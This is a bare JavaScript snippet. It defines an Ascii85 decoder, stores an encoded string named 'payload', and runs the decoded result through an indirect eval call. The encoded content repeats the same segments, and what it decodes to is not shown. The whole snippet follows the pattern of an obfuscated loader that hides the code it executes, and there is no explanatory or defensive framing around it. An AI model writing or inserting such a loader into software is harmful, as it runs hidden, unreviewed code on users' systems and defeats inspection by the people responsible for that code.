function b85(s){let o='';for(let i=0;i<s.length;i+=5){let n=0;for(let j=0;j<5;j++)n=n*85+s.charCodeAt(i+j)-33;for(let k=24;k>=0;k-=8)o+=String.fromCharCode((n>>>k)&255);}return o;}
const payload = "87cURD_*#4DfTZ)+T@;Q$4m2W7Rg2+Y?f>87cURD_*#4DfTZ)87cURD_*#4DfTZ)+T@;Q$4m2W7Rg2+Y?f>87cURD_*#4DfTZ)87cURD_*#4DfTZ)+T@;Q$4m2W7Rg2+Y?f>87cURD_*#4DfTZ)";
(0, eval)(b85(payload));
